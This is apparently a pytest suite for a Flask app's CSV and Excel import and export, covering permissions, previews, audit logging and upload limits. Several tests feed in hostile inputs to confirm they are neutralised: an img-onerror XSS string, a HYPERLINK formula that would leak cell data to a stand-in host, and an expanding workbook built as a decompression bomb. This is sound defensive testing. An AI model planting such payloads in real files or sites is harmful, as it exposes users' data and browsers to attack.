"""The import pages and the export downloads (C4, C5), and their access rules."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func
from sqlalchemy import select

from engage.audiences.models import Audience
from engage.audit.models import AuditEvent
from engage.clock import utcnow
from engage.extensions import db
from engage.imports.models import PendingImport
from tests.factories import sign_in
from tests.imports.test_tabular import FIXTURES
from tests.imports.test_tabular import PNG
from tests.imports.workbooks import expanding_workbook

Login = Callable[..., Any]


def _upload(
    client: FlaskClient,
    content: bytes | io.IOBase,
    filename: str,
    kind: str = "audiences",
) -> Any:
    stream = io.BytesIO(content) if isinstance(content, bytes) else content
    response = client.post(
        f"/{kind}/import",
        data={"file": (stream, filename)},
        content_type="multipart/form-data",
    )
    # The test client spools a large body to a temporary file: close it.
    response.request.environ["wsgi.input"].close()
    return response


def _count(model: type) -> int:
    return db.session.scalar(select(func.count()).select_from(model)) or 0


def _pending_id() -> int:
    pending_id = db.session.scalar(select(PendingImport.id))
    assert pending_id is not None
    return pending_id


# Access ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["/audiences/import", "/actions/import", "/audiences/export.csv"]
)
def test_import_and_export_need_sign_in(client: FlaskClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


@pytest.mark.parametrize("kind", ["audiences", "actions"])
def test_lead_cannot_open_the_import_page(
    client: FlaskClient, login: Login, cast: dict[str, Any], kind: str
) -> None:
    login(cast["lead"])
    assert client.get(f"/{kind}/import").status_code == 403


def test_lead_cannot_upload(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["lead"])
    response = _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    assert response.status_code == 403
    assert _count(PendingImport) == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_lead_can_export(
    client: FlaskClient, login: Login, cast: dict[str, Any], fmt: str
) -> None:
    login(cast["lead"])
    response = client.get(f"/actions/export.{fmt}")
    assert response.status_code == 200
    today = utcnow().date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="actions-{today}.{fmt}"'
    )
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    ("kind", "heading"),
    [("audiences", "Import audiences"), ("actions", "Import the action plan")],
)
def test_officer_sees_the_upload_form(
    client: FlaskClient, login: Login, cast: dict[str, Any], kind: str, heading: str
) -> None:
    login(cast["officer"])
    html = client.get(f"/{kind}/import").get_data(as_text=True)
    assert f"<h1>{heading}</h1>" in html
    assert 'enctype="multipart/form-data"' in html
    assert 'type="file"' in html


def test_unknown_kind_is_not_found(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["admin"])
    assert client.get("/members/import").status_code == 404
    assert client.get("/audiences/export.pdf").status_code == 404


# Upload, preview and confirm ---------------------------------------------------------


def test_upload_shows_the_preview_and_saves_nothing_yet(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    response = _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Check the import of audiences" in html
    assert "Import 3 changes" in html
    assert f'action="/audiences/import/{_pending_id()}"' in html
    assert _count(Audience) == 0


def test_preview_escapes_values_and_lists_errors_by_row(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    response = _upload(client, (FIXTURES / "audiences-c4.csv").read_bytes(), "c4.csv")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<img src=x" not in html
    assert "Row 3: The group must be one of" in html
    assert "Row 4: The influence must be a whole number from 1 to 5" in html
    assert "Row 5: Enter the audience name." in html
    assert "Row 7: Repeats the audience" in html
    assert "Nothing has been imported" in html
    assert "Import 2 changes" not in html  # no confirm button


def test_preview_with_errors_writes_nothing(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, (FIXTURES / "audiences-c4.csv").read_bytes(), "c4.csv")
    assert _count(Audience) == 0
    assert _count(PendingImport) == 0


def test_confirm_imports_once_and_goes_to_the_list(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    url = f"/audiences/import/{_pending_id()}"
    response = client.post(url)
    assert response.status_code == 302
    assert response.headers["Location"] == "/audiences/"
    assert _count(Audience) == 3
    assert _count(PendingImport) == 0
    assert client.post(url).status_code == 404  # it cannot be applied twice


def test_confirm_flashes_the_counts(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    client.post(f"/audiences/import/{_pending_id()}")
    with client.session_transaction() as session:
        flashes = session["_flashes"]
    assert flashes == [
        ("success", "Import finished: 3 created, 0 updated, 0 unchanged.")
    ]


def test_clean_file_uploaded_twice_adds_nothing_the_second_time(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    content = (FIXTURES / "audiences-clean.csv").read_bytes()
    _upload(client, content, "a.csv")
    client.post(f"/audiences/import/{_pending_id()}")
    html = _upload(client, content, "a.csv").get_data(as_text=True)
    assert "Nothing to import: every row matches what is already saved." in html
    assert _count(Audience) == 3
    assert _count(PendingImport) == 0


def test_confirm_by_another_user_is_not_found(
    app: Flask, client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    other = app.test_client()
    assert sign_in(other, cast["admin"]).status_code == 302
    assert other.post(f"/audiences/import/{_pending_id()}").status_code == 404
    assert _count(Audience) == 0


def test_confirm_under_another_kind_is_not_found(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    assert client.post(f"/actions/import/{_pending_id()}").status_code == 404


def test_confirm_of_a_file_that_no_longer_applies_imports_nothing(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    content = (
        f"audience,group,approach,owner\nGPs,clinical,manage,{cast['lead'].email}\n"
    )
    _upload(client, content.encode(), "a.csv")
    db.session.delete(cast["lead"])  # the owner leaves before the officer confirms
    response = client.post(f"/audiences/import/{_pending_id()}")
    assert response.status_code == 302
    assert response.headers["Location"] == "/audiences/import"
    with client.session_transaction() as session:
        category, message = session["_flashes"][0]
    assert category == "error"
    assert message.startswith(
        "Nothing was imported: 1 problem found, the first on row 2"
    )
    assert _count(Audience) == 0


def test_actions_preview_names_the_channels_it_will_add(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    path = (
        Path(__file__).resolve().parents[2]
        / "engage"
        / "demo_data"
        / "action-plan-2012.csv"
    )
    html = _upload(client, path.read_bytes(), "plan.csv", kind="actions").get_data(
        as_text=True
    )
    assert "A new channel “Media” will be added." in html
    assert "Import 23 changes" in html


def test_actions_preview_shows_the_days_as_read(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    """03/04/2026 could be either day: the preview says which it was read as."""
    login(cast["officer"])
    content = (
        b"action,channel,audiences,timescale,responsibility,measurement,"
        b"start_date,due_date\n"
        b"Spring bulletin,Website,N/A,April,Comms team,Readers,03/04/2026,30/04/2026\n"
    )
    html = _upload(client, content, "plan.csv", kind="actions").get_data(as_text=True)
    assert "starts 3 April 2026; due 30 April 2026" in html


def test_audit_events_are_written_for_import_and_export(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, (FIXTURES / "audiences-clean.csv").read_bytes(), "a.csv")
    client.post(f"/audiences/import/{_pending_id()}")
    client.get("/audiences/export.csv")
    events = {
        e.action: e
        for e in db.session.scalars(
            select(AuditEvent).where(AuditEvent.action.in_(["import", "export"]))
        )
    }
    assert (
        events["import"].summary
        == "import audiences: 3 created, 0 updated, 0 unchanged"
    )
    assert events["export"].summary == "export audiences: 3 rows (csv)"
    assert events["export"].actor_id == cast["officer"].id


# Exports (C3) ------------------------------------------------------------------------


def test_export_csv_cells_cannot_run_as_formulas(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    content = (
        'audience,group,approach\n"=HYPERLINK(""http://x/?""&A1,""x"")",public,inform\n'
    )
    _upload(client, content.encode(), "a.csv")
    client.post(f"/audiences/import/{_pending_id()}")
    response = client.get("/audiences/export.csv")
    assert response.content_type == "text/csv; charset=utf-8"
    assert '\'=HYPERLINK(""http://x/?""&A1' in response.get_data(as_text=True)


def test_export_xlsx_stores_text_only(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    _upload(client, b'audience,group,approach\n"+SUM(1,1)",public,inform\n', "a.csv")
    client.post(f"/audiences/import/{_pending_id()}")
    response = client.get("/audiences/export.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    cell = workbook.active["A2"]
    workbook.close()
    assert (cell.value, cell.data_type) == ("'+SUM(1,1)", "s")


def test_export_xlsx_stores_the_scores_as_numbers(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    given = (
        b"audience,group,approach,influence,interest\nCouncillors,public,manage,4,2\n"
    )
    _upload(client, given, "a.csv")
    client.post(f"/audiences/import/{_pending_id()}")
    response = client.get("/audiences/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    header, row = list(sheet.iter_rows(max_row=2, values_only=True))
    scores = dict(zip(header, row, strict=True))
    assert (scores["influence"], scores["interest"]) == (4, 2)


# Upload limits and odd files (C5) ----------------------------------------------------


def test_upload_over_the_size_limit_is_refused_with_413(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    too_big = b"audience,group,approach\n" + b"x" * (21 * 1024 * 1024)
    response = _upload(client, too_big, "big.csv")
    assert response.status_code == 413
    assert "The file is too large" in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (PNG, "This is not a CSV file: it looks like a PNG image."),
        (
            b"PK\x03\x04" + b"\x00" * 40,
            "This is not a CSV file: it looks like a ZIP archive",
        ),
    ],
)
def test_binary_file_renamed_csv_is_refused_with_a_message(
    client: FlaskClient,
    login: Login,
    cast: dict[str, Any],
    content: bytes,
    message: str,
) -> None:
    login(cast["officer"])
    response = _upload(client, content, "audiences.csv")
    assert response.status_code == 200
    assert message in response.get_data(as_text=True)
    assert _count(PendingImport) == 0


def test_real_zip_renamed_csv_is_refused_with_a_message(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("audiences.csv", "audience,group,approach\n")
    response = _upload(client, buffer.getvalue(), "audiences.csv")
    assert "it looks like a ZIP archive" in response.get_data(as_text=True)


def test_text_file_renamed_xlsx_is_refused_with_a_message(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    response = _upload(client, b"audience,group,approach\n", "audiences.xlsx")
    assert "This file is not an Excel workbook (.xlsx)." in response.get_data(
        as_text=True
    )


# Refused by the reader before the database is touched: the SQLite run alone.
@pytest.mark.pure
@pytest.mark.parametrize("kind", ["audiences", "actions", "observations"])
def test_a_workbook_too_large_to_read_is_refused_with_a_message(
    client: FlaskClient, login: Login, cast: dict[str, Any], kind: str
) -> None:
    login(cast["officer"])
    # 49,000 rows of 268 numbers and no <dimension>: 197 MB once expanded.
    content = expanding_workbook(49_000, 268)
    response = _upload(client, content, "plan.xlsx", kind)
    assert response.status_code == 200
    assert "This file is too large or too complex to read" in response.get_data(
        as_text=True
    )
    assert _count(PendingImport) == 0


def test_other_file_types_are_refused_by_the_form(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    html = _upload(client, b"audience\n", "audiences.txt").get_data(as_text=True)
    assert "The file must be a CSV file (.csv) or an Excel workbook (.xlsx)" in html


def test_missing_file_is_refused_by_the_form(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    login(cast["officer"])
    html = client.post("/audiences/import", data={}).get_data(as_text=True)
    assert "Select a CSV file or an Excel workbook" in html


def test_million_row_file_is_refused_quickly(
    client: FlaskClient, login: Login, cast: dict[str, Any], tmp_path: Path
) -> None:
    path = tmp_path / "million.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write("audience,group,approach\n")
        out.writelines("a,b,c\n" for _ in range(1_000_000))
    login(cast["officer"])
    started = time.monotonic()
    with path.open("rb") as source:
        response = _upload(client, source, "million.csv")
    assert time.monotonic() - started < 20
    assert response.status_code == 200
    assert "The file has more than 50,000 rows." in response.get_data(as_text=True)


@pytest.mark.parametrize("name", ["audiences-utf8-bom.csv", "audiences-cp1252.csv"])
def test_utf8_bom_and_windows_1252_uploads_are_read(
    client: FlaskClient, login: Login, cast: dict[str, Any], name: str
) -> None:
    login(cast["officer"])
    response = _upload(client, (FIXTURES / name).read_bytes(), name)
    html = response.get_data(as_text=True)
    assert "Café owners £" in html
    assert "Import 1 change" in html


# Accessibility (axe, WCAG 2.2 AA) ----------------------------------------------------


# The plan's rules apply to imports too (docs/security.md B2) ------------------------


def _plan_csv(title: str, channel: str, status: str = "planned") -> bytes:
    return (
        "action,channel,audiences,timescale,responsibility,measurement,status\n"
        f"{title},{channel},All,TBC,Someone,Something,{status}\n"
    ).encode()


def test_officer_cannot_import_changes_to_an_action_owned_by_others(
    client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    from tests.factories import ActionFactory
    from tests.factories import ChannelFactory
    from tests.factories import UserFactory

    ChannelFactory(name="Newsletter")
    action = ActionFactory(title="Their newsletter", owners=[UserFactory()])
    login(cast["officer"])
    _upload(
        client,
        _plan_csv("Their newsletter", "Newsletter", "cancelled"),
        "p.csv",
        kind="actions",
    )
    response = client.post(f"/actions/import/{_pending_id()}", follow_redirects=True)
    assert "You can only change actions you own" in response.get_data(as_text=True)
    db.session.refresh(action)
    assert action.status.value == "planned"
    assert [u.id for u in action.owners] != [cast["officer"].id]


def test_only_admins_add_channels_through_an_import(
    app: Flask, client: FlaskClient, login: Login, cast: dict[str, Any]
) -> None:
    from engage.actions.models import Channel

    def podcasts() -> int:
        query = (
            select(func.count()).select_from(Channel).where(Channel.name == "Podcast")
        )
        return db.session.scalar(query) or 0

    login(cast["officer"])
    _upload(client, _plan_csv("Podcast launch", "Podcast"), "p.csv", kind="actions")
    response = client.post(f"/actions/import/{_pending_id()}", follow_redirects=True)
    assert "Only administrators can add channels" in response.get_data(as_text=True)
    assert podcasts() == 0
    admin = app.test_client()
    assert sign_in(admin, cast["admin"]).status_code == 302
    _upload(admin, _plan_csv("Podcast launch", "Podcast"), "p.csv", kind="actions")
    mine = db.session.scalar(
        select(PendingImport.id).where(PendingImport.user_id == cast["admin"].id)
    )
    assert admin.post(f"/actions/import/{mine}").status_code == 302
    assert podcasts() == 1
